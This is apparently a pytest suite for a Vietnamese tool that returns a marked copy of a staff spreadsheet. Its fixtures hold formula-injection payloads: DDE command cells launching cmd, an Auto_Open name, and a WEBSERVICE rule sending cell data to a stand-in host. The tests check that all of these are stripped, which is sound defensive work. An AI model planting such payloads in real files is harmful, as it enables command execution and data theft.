"""Lists back to their senders: faulty cells marked and explained in a copy, the original untouched."""

import csv
import shutil
from datetime import date
from pathlib import Path
from zipfile import ZipFile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.formatting.rule import Rule
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.worksheet import Worksheet

from khenthuong_desktop.domain.terms import Severity
from khenthuong_desktop.errors import Cancelled, FileMissing, TargetNotWritable
from khenthuong_desktop.spreadsheets.out import marked_copy
from khenthuong_desktop.spreadsheets.out.fault_list import FILLS, to_be_fixed
from khenthuong_desktop.spreadsheets.out.marked_copy import put_text, write_marked_copy
from khenthuong_desktop.spreadsheets.problems import ERROR, FIXED, WARNING, Problem
from khenthuong_desktop.spreadsheets.reader import read_workbook

DAY = date(2026, 11, 22)
FAULTS = "Lỗi cần sửa"
NASTY = ("=1+1", "+1", "-1", "@x", "\t=1", '=HYPERLINK("http://x")', "{=1}", "\x0b=1")
HEADINGS = ("Mã số", "Họ và tên", "Ngày sinh", "Đơn vị")
ROWS = (
    ("CB1", "Đặng Thị Hoà", "12/05/1980", "Văn phòng"),
    ("CB2", "Trần Văn Hải", "31/02/1985", "Văn phòng"),
    ("CB3", None, "=cmd|' /c calc'!A1", "Trạm Y tế"),
)


@pytest.fixture
def source(tmp_path: Path) -> Path:
    """An office's list with two faulty cells, a formula, a note and a choice out of another file."""
    workbook = Workbook()
    sheet = workbook.worksheets[0]
    sheet.title = "Nhân sự"
    for row in (HEADINGS, *ROWS):
        sheet.append(row)
    sheet["C4"].data_type = "s"
    sheet["B1"].font = Font(name="Times New Roman", bold=True, color="FF0000")
    sheet["C3"].comment = Comment("Xem lại giấy khai sinh", "Văn thư")
    sheet["F1"] = "=1+1"
    outside = DataValidation(type="list", formula1="[1]Sheet1!$A$1:$A$3")
    outside.add("D2:D9")
    sheet.add_data_validation(outside)
    path = tmp_path / "danh sách.xlsx"
    workbook.save(path)
    return path


def marked(sheet: Worksheet) -> dict[str, str]:
    """The marked cells and their colours."""
    colours = {f"00{colour}" for colour in FILLS.values()} | {f"FF{colour}" for colour in FILLS.values()}
    return {
        cell.coordinate: str(cell.fill.fgColor.rgb)[2:]
        for row in sheet.iter_rows()
        for cell in row
        if cell.fill.fgColor.rgb in colours
    }


def copy_of(source: Path, target: Path, problems: list[Problem] | None = None) -> list[Problem]:
    found = read_workbook(source).problems if problems is None else problems
    assert write_marked_copy(source, target, found, DAY) == len(to_be_fixed(found))
    return found


def test_faulty_cells_are_marked_explained_and_listed(source: Path, tmp_path: Path) -> None:
    before, target = source.read_bytes(), tmp_path / "bản lỗi.xlsx"
    problems = copy_of(source, target)
    assert source.read_bytes() == before
    copy = load_workbook(target)
    assert copy.sheetnames == [FAULTS, "Nhân sự"]
    sheet = copy["Nhân sự"]
    errors = {f"{p.column}{p.row}" for p in problems if p.severity is ERROR and p.row}
    assert {"C3", "B4"} <= errors
    assert {place for place, colour in marked(sheet).items() if colour == FILLS[ERROR]} == errors
    note = sheet["C3"].comment
    assert note is not None and note.text.startswith("“Ngày sinh”: ngày “31/02/1985”")
    assert note.text.endswith("Xem lại giấy khai sinh")
    listed = list(copy[FAULTS].iter_rows(min_row=5, values_only=True))
    assert ("Nhân sự", 3, "C", "31/02/1985", "Lỗi") in [row[1:6] for row in listed]
    assert len(listed) == len(to_be_fixed(problems))
    assert [row[6] for row in listed] == [problem.message for problem in to_be_fixed(problems)]


def test_the_rest_keeps_its_looks_and_values_and_nothing_runs_or_leads_elsewhere(source: Path, tmp_path: Path) -> None:
    target = tmp_path / "bản lỗi.xlsx"
    copy_of(source, target)
    copy = load_workbook(target)
    sheet = copy["Nhân sự"]
    assert sheet["B1"].font.color is not None and sheet["B1"].font.color.rgb == "00FF0000"
    assert [sheet.cell(2, place).value for place in range(1, 5)] == list(ROWS[0])
    assert sheet["C4"].value == ROWS[2][2]
    for each in copy:
        for row in each.iter_rows():
            assert {cell.data_type for cell in row} <= {"s", "n", "d"}
    assert sheet.data_validations.dataValidation == []
    assert [each.sheet_view.tabSelected for each in copy] == [True, False]
    with ZipFile(target) as parts:
        assert not [name for name in parts.namelist() if "vba" in name.lower() or "externalLink" in name]


def test_what_runs_or_leads_out_is_not_given_back_and_this_is_said(source: Path, tmp_path: Path) -> None:
    workbook = load_workbook(source)
    sheet = workbook["Nhân sự"]
    for name, told in (("Auto_Open", "'Nhân sự'!$A$1"), ("cm", "cmd|'/C calc'!A0"), ("Vùng", "'Nhân sự'!$A$1:$B$2")):
        workbook.defined_names[name] = DefinedName(name, attr_text=told)
    sheet.conditional_formatting.add(
        "A1:A9", Rule(type="expression", formula=['WEBSERVICE("http://out.example/?"&A1)'])
    )
    sheet.conditional_formatting.add("A1:A9", Rule(type="expression", formula=['A1="a|b"']))
    sheet["B2"].hyperlink = "http://out.example"
    sheet["B3"].hyperlink = Hyperlink(ref="B3", location="'Nhân sự'!A1")
    workbook.save(source)
    copy_of(source, tmp_path / "lỗi.xlsx")
    with ZipFile(tmp_path / "lỗi.xlsx") as archive:
        parts = b"".join(map(archive.read, archive.namelist()))
    assert not any(words in parts for words in (b"out.example", b"cmd|'/C", b"Auto_Open", b"WEBSERVICE"))
    copy = load_workbook(tmp_path / "lỗi.xlsx")
    assert list(copy.defined_names) == ["Vùng"]
    (kept,) = copy["Nhân sự"].conditional_formatting
    assert [rule.formula for rule in kept.rules] == [['A1="a|b"']]
    assert (copy["Nhân sự"]["B2"].hyperlink, copy["Nhân sự"]["B3"].hyperlink.location) == (None, "'Nhân sự'!A1")
    assert "không giữ 5 chỗ" in copy[FAULTS]["A3"].value  # the fixture's choice is one, too


def test_a_copy_put_right_is_taken_in_and_a_second_copy_marks_only_what_is_left(source: Path, tmp_path: Path) -> None:
    first, again = tmp_path / "lần 1.xlsx", tmp_path / "lần 2.xlsx"
    copy_of(source, first)
    workbook = load_workbook(first)
    workbook["Nhân sự"]["C3"] = "28/02/1985"
    workbook.save(first)
    book = read_workbook(first)
    assert [sheet.name for sheet in book.sheets] == ["Nhân sự"]
    left = copy_of(first, again)
    assert not [problem for problem in left if (problem.row, problem.column, problem.severity) == (3, "C", ERROR)]
    copy = load_workbook(again)
    assert copy.sheetnames == [FAULTS, "Nhân sự"]
    assert "C3" not in marked(copy["Nhân sự"]) and "B4" in marked(copy["Nhân sự"])
    assert copy["Nhân sự"]["C3"].comment is None


def test_rows_of_a_text_file_are_written_as_read_with_marks(tmp_path: Path) -> None:
    source, target = tmp_path / "nhân sự.csv", tmp_path / "bản lỗi.xlsx"
    lines = [",".join(str(cell or "") for cell in row) for row in (HEADINGS, *ROWS)]
    source.write_text("\n".join(lines), "utf-8-sig")
    problems = copy_of(source, target)
    copy = load_workbook(target)
    assert copy.sheetnames == [FAULTS, "nhân sự"]
    sheet = copy["nhân sự"]
    assert marked(sheet)["C3"] == FILLS[ERROR]
    assert sheet["C3"].comment is not None and "31/02/1985" in sheet["C3"].comment.text
    assert (sheet["C4"].value, sheet["C4"].data_type) == (ROWS[2][2], "s")
    assert copy[FAULTS].max_row >= 4 + len(to_be_fixed(problems))


def test_a_giant_list_is_written_as_read(source: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(marked_copy, "_MOST_SHEET_BYTES", 10)
    target = tmp_path / "bản lỗi.xlsx"
    copy_of(source, target)
    sheet = load_workbook(target)["Nhân sự"]
    assert sheet["B1"].font.color is None or sheet["B1"].font.color.rgb != "00FF0000"
    assert marked(sheet)["C3"] == FILLS[ERROR]


@pytest.mark.parametrize(
    ("part_name", "written", "instead"),
    [
        ("xl/styles.xml", b'borderId="0"', b'borderId="x"'),
        ("xl/styles.xml", b"<styleSheet", b'<?xml version="0x10"?><styleSheet'),
        ("xl/worksheets/_rels/sheet1.xml.rels", b"</Relationships>", b"</Relation"),
        ("docProps/core.xml", b"</cp:coreProperties>", b"</cp>"),
    ],
)
def test_a_workbook_whose_looks_cannot_be_understood_is_written_as_read(
    part_name: str, written: bytes, instead: bytes, source: Path, tmp_path: Path
) -> None:
    odd, target = tmp_path / "lạ.xlsx", tmp_path / "bản lỗi.xlsx"
    with ZipFile(source) as parts, ZipFile(odd, "w") as kept:
        for name in parts.namelist():
            part = parts.read(name)
            if name == part_name:
                assert written in part
                part = part.replace(written, instead)
            kept.writestr(name, part)
    copy_of(odd, target)
    sheet = load_workbook(target)["Nhân sự"]
    assert marked(sheet)["C3"] == FILLS[ERROR]
    assert [sheet.cell(2, place).value for place in range(1, 5)] == list(ROWS[0])


@settings(deadline=None, max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.one_of(st.text(max_size=12), st.sampled_from(NASTY)), min_size=4, max_size=4))
def test_nothing_of_a_sender_becomes_a_formula(tmp_path: Path, texts: list[str]) -> None:
    words, value, name, note = texts
    book, lines = tmp_path / "x.xlsx", tmp_path / "x.csv"
    workbook = Workbook()
    put_text(workbook.worksheets[0]["A1"], words)
    workbook.worksheets[0].title = "x"
    workbook.save(book)
    with lines.open("w", encoding="utf-16", errors="ignore", newline="") as file:
        csv.writer(file).writerow(["Họ và tên", words.replace("\x00", ""), name.replace("\x00", "")])
    problems = [Problem(ERROR, "date_impossible", "x", 1, "A", value, {"heading": note})]
    for source in (book, lines):
        target = tmp_path / "bản lỗi.xlsx"
        copy_of(source, target, problems)
        for sheet in load_workbook(target):
            assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "d"}


def test_a_fault_of_a_whole_row_of_a_merged_or_an_empty_cell_is_marked(tmp_path: Path) -> None:
    source, target = tmp_path / "gộp.xlsx", tmp_path / "bản lỗi.xlsx"
    workbook = Workbook()
    sheet = workbook.worksheets[0]
    sheet["A1"] = "Họ và tên"
    sheet.merge_cells("A2:B3")
    workbook.save(source)
    places: tuple[tuple[Severity, int | None, str | None], ...] = (
        (ERROR, 3, "B"), (WARNING, 5, None), (FIXED, 1, "A"), (ERROR, None, None), (ERROR, 9, "J"),
    )  # fmt: skip
    problems = [Problem(s, "required_missing", sheet.title, r, c, None, {"heading": "Tên"}) for s, r, c in places]
    copy_of(source, target, problems)
    found = marked(load_workbook(target)[sheet.title])
    assert found == {"A2": FILLS[ERROR], "A5": FILLS[WARNING], "J9": FILLS[ERROR]}
    copied = tmp_path / "gộp.csv"
    copied.write_text("Họ và tên\n", "utf-8")
    copy_of(copied, target, [Problem(p.severity, p.code, "gộp", p.row, p.column, None, p.details) for p in problems])
    assert set(marked(load_workbook(target)["gộp"])) == {"A5", "J9", "B3"}


def test_the_original_is_never_written_over(source: Path, tmp_path: Path) -> None:
    before = source.read_bytes()
    same = tmp_path / "liên kết.xlsx"
    same.hardlink_to(source)
    for target in (source, same):
        with pytest.raises(TargetNotWritable):
            copy_of(source, target)
    with pytest.raises(TargetNotWritable):
        copy_of(source, tmp_path / "không có" / "x.xlsx")
    assert source.read_bytes() == before
    source.unlink()
    with pytest.raises(FileMissing):
        copy_of(source, tmp_path / "x.xlsx", [])


@pytest.mark.parametrize("most", [10, 10_000_000])
def test_a_stopped_copy_leaves_nothing(
    source: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, most: int
) -> None:
    def stop(_done: int, _total: int, what: str) -> None:
        if what == "Nhân sự":
            raise Cancelled

    monkeypatch.setattr(marked_copy, "_MOST_SHEET_BYTES", most)
    before = set(tmp_path.iterdir())
    with pytest.raises(Cancelled):
        write_marked_copy(source, tmp_path / "x.xlsx", read_workbook(source).problems, DAY, stop)
    assert set(tmp_path.iterdir()) == before


def test_real_blank_lists_can_be_sent_back(tmp_path: Path) -> None:
    samples = Path(__file__).parents[4] / "shared" / "samples"
    if not samples.is_dir():
        pytest.skip("the lists of offices are not beside this repository")
    for sample in sorted(samples.glob("*.xlsx")):
        source, target = tmp_path / sample.name, tmp_path / f"lỗi {sample.name}"
        shutil.copy(sample, source)
        names = load_workbook(source, read_only=True).sheetnames
        first = Problem(WARNING, "sheet_not_recognised", names[0], 1, "A")
        copy_of(source, target, [*read_workbook(source).problems, first])
        copy = load_workbook(target)
        assert copy.sheetnames == [FAULTS, *names]
        assert marked(copy[names[0]])


def test_the_list_of_faults_prints_with_room_for_long_words(source: Path, tmp_path: Path) -> None:
    copy_of(source, tmp_path / "copy.xlsx")
    told = load_workbook(tmp_path / "copy.xlsx").worksheets[0]
    footer = told.HeaderFooter.oddFooter
    assert footer is not None
    assert (told.page_setup.paperSize, footer.right.text) == (9, "Trang &P/&N")
    lines = enumerate(told.iter_rows(min_row=5), start=5)
    rows = [(str(row[-1].value), told.row_dimensions[line].height) for line, row in lines]
    assert rows
    assert all((height or 0) >= 14 * -(-len(words) // 75) for words, height in rows)
